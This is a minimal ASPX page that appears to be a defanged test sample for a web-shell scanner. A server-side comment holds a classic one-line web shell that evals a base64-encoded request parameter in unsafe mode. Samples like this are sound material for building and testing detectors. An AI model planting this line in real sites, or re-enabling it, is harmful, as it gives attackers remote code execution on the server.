<%@ Page Language="Jscript" %>
<%-- exhunt test sample, defanged (server-side comment, never compiled):
<%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["z"])),"unsafe");%>
--%>
